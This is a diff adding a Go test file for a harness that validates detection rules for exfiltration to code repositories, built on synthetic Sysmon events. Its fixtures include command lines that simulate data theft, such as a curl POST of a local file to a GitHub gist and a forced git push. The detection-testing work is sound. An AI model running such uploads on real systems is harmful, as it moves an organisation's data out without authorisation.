@@ -1,0 +1,208 @@
+package validate
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/t1567001/harness/atomics"
+	"github.com/t1567001/harness/rules"
+	"github.com/t1567001/harness/telemetry"
+)
+
+func sysmon(id int, host string, data ...string) telemetry.Event {
+	ev := telemetry.Event{Provider: telemetry.Sysmon, EventID: id, Channel: telemetry.SysmonChannel, Computer: host}
+	for i := 0; i+1 < len(data); i += 2 {
+		ev.Data = append(ev.Data, telemetry.Field{Name: data[i], Value: data[i+1]})
+	}
+	return ev
+}
+
+const (
+	ws       = "WS-FIN-0142.corp.example"
+	ci       = "GITLAB-RUNNER-W03.build.corp.example"
+	curlExe  = `C:\Windows\System32\curl.exe`
+	gitExe   = `C:\Program Files\Git\mingw64\bin\git.exe`
+	remote   = `C:\Program Files\Git\mingw64\libexec\git-core\git-remote-https.exe`
+	codeExe  = `C:\Users\a.dev\AppData\Local\Programs\Microsoft VS Code\Code.exe`
+	explorer = `C:\Windows\explorer.exe`
+)
+
+func netEvent(host, image, dest string) telemetry.Event {
+	return sysmon(3, host, "Image", image, "DestinationHostname", dest, "DestinationIp", "140.82.112.6", "DestinationPort", "443")
+}
+
+func procEvent(host, image, cmdline, parent string) telemetry.Event {
+	return sysmon(1, host, "Image", image, "CommandLine", cmdline, "ParentImage", parent)
+}
+
+func seedRule(t *testing.T) Rule {
+	t.Helper()
+	loaded, unsupported, err := LoadRules(rules.FS, Options{})
+	require.NoError(t, err)
+	for _, u := range unsupported {
+		t.Logf("unsupported: %s: %s", u.Path, u.Reason)
+	}
+	r := ByID(loaded)["seed_t1567_001_code_repo_exfil"]
+	require.NotNil(t, r, "the seed rule ships with the harness")
+	return r
+}
+
+func score(n int) *int { return &n }
+
+func TestCheckSeedRule(t *testing.T) {
+	rule := seedRule(t)
+	cases := []struct {
+		name    string
+		events  []telemetry.Event
+		exp     atomics.Expectation
+		pass    bool
+		gap     bool
+		explain []string
+	}{
+		{"curl upload fires", []telemetry.Event{procEvent(ws, curlExe, `curl.exe -X POST https://api.github.com/gists -d @g.json`, explorer)},
+			atomics.Expectation{Fires: true, Signal: "CodeRepoAPIUpload", Score: score(3)}, true, false, nil},
+		{"wrong score fails", []telemetry.Event{netEvent(ws, curlExe, "api.github.com")},
+			atomics.Expectation{Fires: true, Signal: "NetworkConnectionToCodeRepo", Score: score(3)}, false, false,
+			[]string{"Signal=NetworkConnectionToCodeRepo", "SuspicionScore=2"}},
+		{"CI host is silent", []telemetry.Event{netEvent(ci, curlExe, "api.github.com")},
+			atomics.Expectation{Fires: false}, true, false, nil},
+		{"CI host expected to fire: explanation shows the score", []telemetry.Event{netEvent(ci, curlExe, "api.github.com")},
+			atomics.Expectation{Fires: true, Signal: "NetworkConnectionToCodeRepo", Score: score(2)}, false, false,
+			[]string{"passes the search", "IsCISystem=1", "SuspicionScore=0", "where SuspicionScore >= 2"}},
+		{"git-remote-https misses the image list", []telemetry.Event{netEvent(ws, remote, "github.com")},
+			atomics.Expectation{Fires: true, Signal: "NetworkConnectionToCodeRepo"}, false, false,
+			[]string{`Image="*\\git.exe"`, "git-remote-https.exe", "Nearest misses"}},
+		{"silence on one signal while another fires", []telemetry.Event{procEvent(ws, gitExe, `git push --force https://github.com/x/y.git`, explorer), netEvent(ws, remote, "github.com")},
+			atomics.Expectation{Fires: false, Signal: "NetworkConnectionToCodeRepo"}, true, false, nil},
+		{"IDE exception cannot apply to Sysmon 3: a gap", []telemetry.Event{netEvent(ws, curlExe, "api.github.com")},
+			atomics.Expectation{Fires: true, Signal: "NetworkConnectionToCodeRepo", Score: score(2),
+				Intent: &atomics.Intent{Fires: false, Signal: "NetworkConnectionToCodeRepo"}}, true, true,
+			[]string{"has no", "ParentImage", "IsKnownIDE=0"}},
+		{"IDE parent lowers a process event? no: EID 1 from Code.exe still scores 3", []telemetry.Event{procEvent(ws, curlExe, `curl.exe -X POST https://api.github.com/gists`, codeExe)},
+			atomics.Expectation{Fires: true, Signal: "CodeRepoAPIUpload", Score: score(3)}, true, false, nil},
+		{"PTR names defeat the host list", []telemetry.Event{netEvent(ws, curlExe, "lb-140-82-112-6-iad.github.com")},
+			atomics.Expectation{Fires: true, Signal: "NetworkConnectionToCodeRepo"}, false, false,
+			[]string{"DestinationHostname", "lb-140-82-112-6-iad.github.com"}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			tc.exp.Rule = rule.ID()
+			v, err := Check(context.Background(), rule, tc.events, tc.exp)
+			require.NoError(t, err)
+			assert.Equal(t, tc.pass, v.Pass, v.Explanation)
+			assert.Equal(t, tc.gap, v.Gap != "", "gap: %s", v.Gap)
+			text := v.Explanation + v.Gap
+			for _, want := range tc.explain {
+				assert.Contains(t, text, want)
+			}
+			if tc.pass && !tc.gap {
+				assert.Empty(t, text)
+			}
+		})
+	}
+}
+
+func TestCheckMissingRuleFails(t *testing.T) {
+	v, err := Check(context.Background(), nil, nil, atomics.Expectation{Rule: "nope", Fires: false})
+	require.NoError(t, err)
+	assert.False(t, v.Pass)
+	assert.Contains(t, v.Explanation, `rule "nope" is not among the loaded rules`)
+}
+
+// fakeRule yields fixed rows, to pin Check's rules independent of any engine.
+type fakeRule struct{ rows []Row }
+
+func (f fakeRule) ID() string   { return "fake" }
+func (f fakeRule) Kind() string { return "fake" }
+func (f fakeRule) Evaluate(context.Context, []telemetry.Event) ([]Row, error) {
+	return f.rows, nil
+}
+func (f fakeRule) Explain(_ context.Context, _ []telemetry.Event, want Outcome) string {
+	return "explained " + want.String()
+}
+
+func row(kv ...string) Row {
+	r := Row{Values: map[string]string{}}
+	for i := 0; i+1 < len(kv); i += 2 {
+		r.Fields = append(r.Fields, kv[i])
+		r.Values[kv[i]] = kv[i+1]
+	}
+	return r
+}
+
+func TestCheckSemantics(t *testing.T) {
+	a := row("Signal", "A", "SuspicionScore", "3")
+	b := row("Signal", "B", "SuspicionScore", "2")
+	plain := row("title", "match")
+	cases := []struct {
+		name string
+		rows []Row
+		exp  atomics.Expectation
+		pass bool
+		want string
+	}{
+		{"fires any", []Row{plain}, atomics.Expectation{Fires: true}, true, ""},
+		{"silent with rows", []Row{plain}, atomics.Expectation{Fires: false}, false, "explained silent"},
+		{"silent without rows", nil, atomics.Expectation{Fires: false}, true, ""},
+		{"signal and score", []Row{a, b}, atomics.Expectation{Fires: true, Signal: "B", Score: score(2)}, true, ""},
+		{"signal with other score", []Row{a, b}, atomics.Expectation{Fires: true, Signal: "B", Score: score(3)}, false, "explained fires B/3"},
+		{"absent signal", []Row{a}, atomics.Expectation{Fires: true, Signal: "B"}, false, "explained fires B"},
+		{"no row of one signal", []Row{a}, atomics.Expectation{Fires: false, Signal: "B"}, true, ""},
+		{"rows without Signal cannot answer a signal", []Row{plain}, atomics.Expectation{Fires: true, Signal: "A"}, false, "without a Signal field"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			tc.exp.Rule = "fake"
+			v, err := Check(context.Background(), fakeRule{rows: tc.rows}, nil, tc.exp)
+			require.NoError(t, err)
+			assert.Equal(t, tc.pass, v.Pass)
+			assert.Contains(t, v.Explanation, tc.want)
+			raw, err := json.Marshal(v)
+			require.NoError(t, err)
+			for _, k := range []string{`"atomic"`, `"context"`, `"rule"`, `"expected"`, `"actual"`, `"pass"`} {
+				assert.Contains(t, string(raw), k, "results.json shape")
+			}
+		})
+	}
+}
+
+func TestLoadRulesReportsSyntaxErrorWithFileAndPosition(t *testing.T) {
+	fsys := fstest.MapFS{"broken.spl": {Data: []byte("index=x\n| eval a=case(1==1, \"x\"\n| table a\n")}}
+	_, _, err := LoadRules(fsys, Options{})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "broken.spl")
+	assert.Regexp(t, `\d+:\d+`, err.Error())
+	assert.Contains(t, err.Error(), "^")
+}
+
+func TestSPLEventFields(t *testing.T) {
+	ev := SPLEvent(netEvent(ws, curlExe, "api.github.com"), Options{}.withDefaults())
+	assert.Equal(t, "wineventlog", ev["index"])
+	assert.Equal(t, "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", ev["sourcetype"])
+	assert.Equal(t, "3", ev["EventCode"])
+	assert.Equal(t, ws, ev["host"])
+	custom := SPLEvent(netEvent(ws, curlExe, "x"), Options{Index: "sysmon", Sourcetype: "xmlwineventlog"}.withDefaults())
+	assert.Equal(t, "sysmon", custom["index"])
+	assert.Equal(t, "xmlwineventlog", custom["sourcetype"])
+}
+
+func TestSeedRuleIsVerbatim(t *testing.T) {
+	seed := os.Getenv("HARNESS_SEED")
+	if seed == "" {
+		seed = "../../shared/seed/004_ecbec7d42abb12da.txt"
+	}
+	doc, err := os.ReadFile(seed)
+	if err != nil {
+		t.Skipf("seed document not found at %s (set HARNESS_SEED): %v", seed, err)
+	}
+	rule, err := rules.FS.ReadFile("seed_t1567_001_code_repo_exfil.spl")
+	require.NoError(t, err)
+	assert.True(t, strings.Contains(string(doc), strings.TrimSpace(string(rule))), "the shipped rule must be the seed query, byte for byte")
+}
